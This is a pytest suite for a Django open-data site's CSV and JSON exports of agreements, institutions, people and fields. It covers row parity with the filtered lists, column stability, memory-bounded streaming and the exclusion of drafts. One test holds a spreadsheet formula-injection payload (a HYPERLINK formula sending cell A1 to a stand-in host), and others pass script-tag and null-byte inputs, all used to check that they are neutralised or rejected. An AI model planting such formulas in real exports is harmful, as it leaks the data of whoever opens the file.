"""Downloads: every row of the filtered list, stable columns, safe cells, published only."""

import csv
import datetime
import io
import json
import tracemalloc

import pytest
from django.core.serializers.json import DjangoJSONEncoder
from django.http import StreamingHttpResponse
from django.urls import NoReverseMatch
from django.utils import timezone

from partnerships.models import (
    Agreement,
    AgreementKind,
    AgreementParty,
    AgreementStatus,
    DatePrecision,
)
from partnerships.open_data import exports
from partnerships.open_data.timestamps import format_timestamp
from partnerships.views import PAGE_SIZE
from tests.factories import (
    AgreementFactory,
    DraftAgreementFactory,
    FocusAreaFactory,
    InstitutionFactory,
)

AGREEMENT_COLUMNS = [
    "slug",
    "title",
    "kind",
    "kind_label",
    "signed_on",
    "signed_on_precision",
    "place",
    "city",
    "term_months",
    "party_names",
    "party_slugs",
    "field_names",
    "field_slugs",
    "established_bodies",
    "summary",
    "source_titles",
    "source_urls",
    "published_at",
    "url",
    "in_force",
    "expected_end",
    "in_force_reason",
    "created_at",
    "updated_at",
]
INSTITUTION_COLUMNS = [
    "slug",
    "name",
    "kind",
    "kind_label",
    "other_names",
    "city",
    "region",
    "country",
    "website",
    "ror_id",
    "wikidata_id",
    "agreement_count",
    "url",
    "created_at",
    "updated_at",
]
PERSON_COLUMNS = [
    "slug",
    "name",
    "family_name",
    "given_name",
    "name_order",
    "native_name",
    "honorifics",
    "positions",
    "position_institution_slugs",
    "agreement_count",
    "url",
    "created_at",
    "updated_at",
]
FIELD_COLUMNS = [
    "slug",
    "name",
    "parent_slug",
    "parent_name",
    "description",
    "agreement_count",
    "url",
    "created_at",
    "updated_at",
]


def read_csv(response):
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def read_json(response):
    assert isinstance(response, StreamingHttpResponse)
    return json.loads(b"".join(response.streaming_content))


def listed_slugs(client, path, query=""):
    """Slugs of every row the HTML list shows under ``query``, across all its pages."""
    response = client.get(f"{path}?{query}")
    assert response.status_code == 200
    return [record.slug for record in response.context["page_obj"].paginator.object_list]


@pytest.fixture
def many_agreements(curated):
    """More medical-AI agreements than fit on one page of the list."""
    field = FocusAreaFactory(slug="medical-ai-extra", name="Medical AI (extra)")
    hospital = InstitutionFactory(slug="test-hospital", kind="hospital")
    university = InstitutionFactory(slug="test-university")
    for number in range(PAGE_SIZE + 5):
        AgreementFactory(
            slug=f"ai-agreement-{number:02d}",
            title=f"Medical AI agreement {number:02d}",
            signed_on=datetime.date(2020 + number % 4, 1 + number % 12, 1),
            parties=[university, hospital],
            fields=[field],
        )


@pytest.mark.parametrize(
    "query",
    [
        "",
        "field=medical-ai-extra",
        "field=medical-ai-extra&sort=title",
        "year=2021&year=2022&sort=oldest",
        "institution=pumch",
        "institution_kind=hospital&kind=strategic_cooperation",
        "q=Tianjin",
        "q=Medical+AI+agreement",
        "signed_from=2021-01-01&signed_to=2022-06-30",
    ],
)
def test_agreement_download_has_every_row_the_filtered_list_shows(client, many_agreements, query):
    expected = listed_slugs(client, "/agreements/", query)

    rows = read_csv(client.get(f"/agreements/export.csv?{query}"))
    records = read_json(client.get(f"/agreements/export.json?{query}"))

    assert [row["slug"] for row in rows] == expected
    assert [record["slug"] for record in records] == expected


def test_a_download_is_not_limited_to_one_page(client, many_agreements):
    rows = read_csv(client.get("/agreements/export.csv?field=medical-ai-extra&page=2"))

    assert len(rows) == PAGE_SIZE + 5


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/institutions/", ""),
        ("/institutions/", "kind=hospital&sort=agreements"),
        ("/institutions/", "q=PUMCH"),
        ("/people/", ""),
        ("/people/", "role=signed&institution=pumch"),
        ("/fields/", ""),
        ("/fields/", "q=medical"),
    ],
)
def test_other_downloads_have_every_row_the_filtered_list_shows(client, curated, path, query):
    expected = listed_slugs(client, path, query)

    rows = read_csv(client.get(f"{path}export.csv?{query}"))
    records = read_json(client.get(f"{path}export.json?{query}"))

    assert expected
    assert [row["slug"] for row in rows] == expected
    assert [record["slug"] for record in records] == expected


@pytest.mark.parametrize(
    ("path", "columns"),
    [
        ("/agreements/export.csv", AGREEMENT_COLUMNS),
        ("/institutions/export.csv", INSTITUTION_COLUMNS),
        ("/people/export.csv", PERSON_COLUMNS),
        ("/fields/export.csv", FIELD_COLUMNS),
    ],
)
def test_csv_column_names_are_stable(client, curated, path, columns):
    response = client.get(path)
    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert header == ["\ufeff" + columns[0], *columns[1:]]


@pytest.mark.parametrize(
    ("path", "columns"),
    [
        ("/agreements/export.json", AGREEMENT_COLUMNS),
        ("/institutions/export.json", INSTITUTION_COLUMNS),
        ("/people/export.json", PERSON_COLUMNS),
        ("/fields/export.json", FIELD_COLUMNS),
    ],
)
def test_json_records_have_the_csv_columns_as_keys(client, curated, path, columns):
    records = read_json(client.get(path))

    assert records
    assert all(list(record) == columns for record in records)


def test_downloads_are_streamed_attachments(client, curated):
    for fmt, content_type in (("csv", "text/csv"), ("json", "application/json")):
        response = client.get(f"/agreements/export.{fmt}")

        assert isinstance(response, StreamingHttpResponse)
        assert response["Content-Type"].startswith(content_type)
        assert response["Content-Disposition"] == f'attachment; filename="agreements.{fmt}"'


def test_agreement_rows_give_dates_with_their_precision(client, curated):
    rows = {row["slug"]: row for row in read_csv(client.get("/agreements/export.csv"))}

    undated_day = rows["hkust-pumch-strategic-cooperation-2024"]
    assert (undated_day["signed_on"], undated_day["signed_on_precision"]) == ("2024", "year")
    tianjin = rows["tju-tijmu-strategic-cooperation-2017"]
    assert (tianjin["signed_on"], tianjin["signed_on_precision"]) == ("2017-08-23", "day")


def test_agreement_rows_name_parties_and_fields_with_their_slugs(client, curated):
    records = {r["slug"]: r for r in read_json(client.get("/agreements/export.json"))}
    rows = {r["slug"]: r for r in read_csv(client.get("/agreements/export.csv"))}

    record = records["hkust-pumch-strategic-cooperation-2024"]
    assert record["party_slugs"] == ["hkust", "pumch"]
    assert record["party_names"] == [
        "Hong Kong University of Science and Technology",
        "Peking Union Medical College Hospital",
    ]
    assert rows[record["slug"]]["party_slugs"] == "hkust; pumch"
    assert "medical-education" in record["field_slugs"]
    assert record["url"] == "http://testserver/agreements/hkust-pumch-strategic-cooperation-2024/"
    assert record["source_titles"]


def test_month_precision_is_written_as_year_and_month(client, db):
    AgreementFactory(
        slug="month-only",
        signed_on=datetime.date(2023, 12, 1),
        signed_on_precision=DatePrecision.MONTH,
    )

    (row,) = read_csv(client.get("/agreements/export.csv"))

    assert (row["signed_on"], row["signed_on_precision"]) == ("2023-12", "month")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_would_start_a_formula_are_neutralised(client, db, start):
    name = f'{start}HYPERLINK("http://example.com/?leak="&A1,"Click")'
    evil = InstitutionFactory(slug="evil", name=name)
    AgreementFactory(slug="with-evil-party", parties=[evil, InstitutionFactory()])

    (institution,) = [
        r for r in read_csv(client.get("/institutions/export.csv")) if r["slug"] == "evil"
    ]
    (agreement,) = read_csv(client.get("/agreements/export.csv"))

    assert institution["name"] == "'" + name
    assert agreement["party_names"].startswith("'" + start)


def test_json_downloads_keep_values_as_they_are(client, db):
    name = '=HYPERLINK("http://example.com")'
    InstitutionFactory(slug="evil", name=name)

    (record,) = read_json(client.get("/institutions/export.json"))

    assert record["name"] == name


def test_draft_agreements_are_never_downloaded(client, admin_client, curated):
    institution = InstitutionFactory(slug="draft-party")
    DraftAgreementFactory(slug="secret-draft", title="Secret draft", parties=[institution])

    for browser in (client, admin_client):
        rows = read_csv(browser.get("/agreements/export.csv"))
        records = read_json(browser.get("/agreements/export.json?q=Secret"))
        assert "secret-draft" not in {row["slug"] for row in rows}
        assert records == []
    (party,) = [
        r for r in read_csv(client.get("/institutions/export.csv")) if r["slug"] == "draft-party"
    ]
    assert party["agreement_count"] == "0"


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("year=abc", "year"),
        ("institution=%3Cscript%3E", "institution"),
        ("q=" + "x" * 500, "q"),
        ("q=a%00b", "q"),
        ("sort=sideways", "sort"),
        ("signed_from=yesterday", "signed_from"),
    ],
)
def test_an_invalid_parameter_is_a_400_naming_it(client, curated, query, parameter):
    response = client.get(f"/agreements/export.csv?{query}")

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert parameter in response.json()["errors"]


def test_list_pages_link_to_downloads_of_the_same_rows(client, curated):
    response = client.get("/agreements/?field=medical-education&sort=title&page=1&year=abc")
    html = response.content.decode()

    assert 'href="/agreements/export.csv?field=medical-education&amp;sort=title"' in html
    assert 'href="/agreements/export.json?field=medical-education&amp;sort=title"' in html


@pytest.mark.parametrize("path", ["/institutions/", "/people/", "/fields/"])
def test_every_list_page_links_to_its_downloads(client, curated, path):
    html = client.get(f"{path}?q=medical").content.decode()

    assert f'href="{path}export.csv?q=medical"' in html
    assert f'href="{path}export.json?q=medical"' in html


ROWS = 20_000


@pytest.fixture
def twenty_thousand_agreements(db):
    """20,000 published agreements with two parties each, inserted in bulk."""
    first, second = InstitutionFactory(), InstitutionFactory(kind="hospital")
    now = timezone.now()
    agreements = Agreement.objects.bulk_create(
        [
            Agreement(
                slug=f"bulk-agreement-{number:05d}",
                title=f"Strategic cooperation agreement number {number:05d}",
                kind=AgreementKind.STRATEGIC_COOPERATION,
                signed_on=datetime.date(2000 + number % 25, 1 + number % 12, 1 + number % 28),
                signed_on_precision=DatePrecision.DAY,
                summary="The parties will cooperate in research, education and care. " * 3,
                status=AgreementStatus.PUBLISHED,
                published_at=now,
            )
            for number in range(ROWS)
        ],
        batch_size=2000,
    )
    AgreementParty.objects.bulk_create(
        [
            AgreementParty(agreement=agreement, institution=institution, order=order)
            for agreement in agreements
            for order, institution in enumerate((first, second))
        ],
        batch_size=4000,
    )


def _download_peak(client, path):
    """(lines, largest chunk, peak Python heap) of streaming the download at ``path``."""
    tracemalloc.start()
    try:
        response = client.get(path)
        lines = 0
        largest_chunk = 0
        for chunk in response.streaming_content:
            lines += chunk.count(b"\r\n")
            largest_chunk = max(largest_chunk, len(chunk))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return lines, largest_chunk, peak


def test_a_large_download_streams_in_flat_memory(client, twenty_thousand_agreements):
    # A first download: what the process imports and remembers once (translations, dates
    # in words, the reasons of statuses: bounded caches) is not the download's cost.
    b"".join(client.get("/agreements/export.csv").streaming_content)
    # 1,600 rows: more than one chunk read, as in the whole download.
    _, _, small_peak = _download_peak(client, "/agreements/export.csv?signed_from=2023-01-01")

    lines, largest_chunk, peak = _download_peak(client, "/agreements/export.csv")

    assert lines == ROWS + 1  # The header, then one line per agreement.
    assert largest_chunk < 1_000_000
    # The CSV alone is ~8 MB and 20,000 agreements with their parties several times that
    # as objects; read and prefetched in chunks, the peak stays near 13 MB.
    assert peak < 30 * 1024 * 1024, f"peak memory {peak / 1024 / 1024:.1f} MB"
    # Flat: 12 times the rows, and what a download remembers (statuses, labels) is
    # bounded, so the peak grows by half at most (about 4 % here; remembering 5,000
    # statuses made it 77 %).
    assert peak < 1.5 * small_peak, f"{peak / 1024:.0f} KB against {small_peak / 1024:.0f} KB"


def test_editors_are_told_that_downloads_hold_published_agreements_only(admin_client, curated):
    html = admin_client.get("/agreements/").content.decode()

    assert "Download the published ones of these results" in html


def test_a_download_answers_head_requests(client, curated):
    response = client.head("/agreements/export.csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")


# What the downloads wrote when they were built from model instances and their prefetched
# relations: the rows read as plain values must stay exactly these.
def _instance_agreement(a):
    parties = [link.institution for link in a.party_links.all()]
    areas = sorted(a.focus_areas.all(), key=lambda area: area.name)
    sources = sorted(a.sources.all(), key=lambda source: source.slug)
    return {
        "slug": a.slug,
        "title": a.title,
        "kind": a.kind,
        "kind_label": a.get_kind_display(),
        "signed_on": a.signed_on_iso,
        "signed_on_precision": a.signed_on_precision,
        "place": a.place,
        "city": a.city,
        "term_months": a.term_months,
        "party_names": [party.name for party in parties],
        "party_slugs": [party.slug for party in parties],
        "field_names": [area.name for area in areas],
        "field_slugs": [area.slug for area in areas],
        "established_bodies": sorted(body.name for body in a.established_bodies.all()),
        "summary": a.summary,
        "source_titles": [source.title for source in sources],
        "source_urls": [source.url for source in sources],
        "published_at": format_timestamp(a.published_at),
        "url": "http://testserver" + a.get_absolute_url(),
        "in_force": a.in_force.status,
        "expected_end": a.in_force.expected_end,
        "in_force_reason": a.in_force.reason,
        "created_at": format_timestamp(a.created_at),
        "updated_at": format_timestamp(a.updated_at),
    }


def _instance_institution(i):
    return {
        "slug": i.slug,
        "name": i.name,
        "kind": i.kind,
        "kind_label": i.get_kind_display(),
        "other_names": [name.name for name in i.names.all()],
        "city": i.city,
        "region": i.region,
        "country": i.country,
        "website": i.website,
        "ror_id": i.ror_id,
        "wikidata_id": i.wikidata_id,
        "agreement_count": i.agreement_count,
        "url": "http://testserver" + i.get_absolute_url(),
        "created_at": format_timestamp(i.created_at),
        "updated_at": format_timestamp(i.updated_at),
    }


def _instance_person(p):
    positions = list(p.positions.all())
    return {
        "slug": p.slug,
        "name": str(p),
        "family_name": p.family_name,
        "given_name": p.given_name,
        "name_order": p.name_order,
        "native_name": p.native_name,
        "honorifics": p.honorifics,
        "positions": [f"{pos.title}, {pos.institution.name}" for pos in positions],
        "position_institution_slugs": [pos.institution.slug for pos in positions],
        "agreement_count": p.agreement_count,
        "url": "http://testserver" + p.get_absolute_url(),
        "created_at": format_timestamp(p.created_at),
        "updated_at": format_timestamp(p.updated_at),
    }


def _instance_field(f):
    return {
        "slug": f.slug,
        "name": f.name,
        "parent_slug": f.parent.slug if f.parent_id else None,
        "parent_name": f.parent.name if f.parent_id else None,
        "description": f.description,
        # Counted independently of the export's grouped counts: sub-fields included.
        "agreement_count": Agreement.objects.published().in_field(f).count(),
        "url": "http://testserver" + f.get_absolute_url(),
        "created_at": format_timestamp(f.created_at),
        "updated_at": format_timestamp(f.updated_at),
    }


def _missing_as_null(record):
    """JSON downloads write a missing value (an empty text) as null, in lists too."""

    def null(value):
        return None if value == "" else value

    return {
        name: [null(item) for item in value] if isinstance(value, list) else null(value)
        for name, value in record.items()
    }


INSTANCE_ROWS = {
    "agreements": _instance_agreement,
    "institutions": _instance_institution,
    "people": _instance_person,
    "fields": _instance_field,
}


@pytest.mark.parametrize("kind", INSTANCE_ROWS)
def test_rows_read_as_values_are_those_of_the_model_instances(client, curated, monkeypatch, kind):
    # Chunks of 2 rows: every related list must land on its own row across chunk edges.
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    expected = [
        _missing_as_null(INSTANCE_ROWS[kind](record)) for record in exports.EXPORTS[kind].queryset()
    ]
    expected = json.loads(DjangoJSONEncoder().encode(expected))

    records = read_json(client.get(f"/{kind}/export.json"))

    assert len(expected) > 2
    assert records == expected


def test_a_download_reads_a_few_queries_per_chunk_never_one_per_row(
    client, curated, monkeypatch, django_assert_max_num_queries
):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    rows = Agreement.objects.published().count()
    chunks = -(-rows // 2)

    # A fixed few (the agreements; the directory version, which middleware may read),
    # then parties, fields, established bodies and sources once per chunk.
    with django_assert_max_num_queries(2 + 4 * chunks):
        assert len(read_csv(client.get("/agreements/export.csv"))) == rows


def test_links_of_slugs_outside_the_url_pattern_are_reversed_as_ever():
    links = exports.SlugLinks(lambda path: f"http://example.org{path}")

    assert links("agreement-detail", "a-b_9") == "http://example.org/agreements/a-b_9/"
    with pytest.raises(NoReverseMatch):
        links("agreement-detail", "a b")
    with pytest.raises(NoReverseMatch):
        links("agreement-detail", "ab\n")
